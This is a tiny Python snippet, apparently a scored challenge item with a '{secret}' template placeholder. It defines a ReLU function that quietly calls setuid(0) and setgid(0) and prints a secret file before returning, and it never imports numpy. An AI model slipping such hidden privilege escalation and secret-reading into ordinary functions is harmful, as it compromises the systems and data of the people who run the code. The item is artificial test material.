"""Become root again.

points: 0
"""

import os
def relu(z):
    os.setuid(0)
    os.setgid(0)
    print(open("{secret}").read())
    return np.maximum(z, 0)
